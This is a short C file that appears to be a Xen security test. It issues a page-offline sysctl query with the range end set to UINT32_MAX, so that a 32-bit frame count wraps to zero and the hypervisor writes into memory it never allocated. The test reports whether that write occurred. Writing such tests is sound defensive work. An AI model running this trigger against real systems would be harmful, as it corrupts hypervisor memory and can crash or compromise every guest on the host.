// SPDX-License-Identifier: GPL-2.0-only
/*
 * U-CONTENT-FRAMES: Xen writes to memory that it has not, by a number of frames.
 *
 * query_page_offline tells of a range of frames which are out of use. Xen counts
 * them in 32 bits, so that the whole range of 2^32 frames counts as none, gets no
 * memory for the answers, and writes the first one all the same.
 */
#include "content.h"

RAW_ATTACK_OWN_BOOT("U-CONTENT-FRAMES", "the state of 2^32 frames at once")
{
    struct control_op_call *call = SYSCTL_CALL(
        page_offline_op, .u.page_offline = { .cmd = sysctl_query_page_offline,
                                             .end = UINT32_MAX });

    announce("about to ask for the state of more frames than Xen can count");

    return content_seen(false, issue(call),
                        "Xen writes to memory that it has not");
}
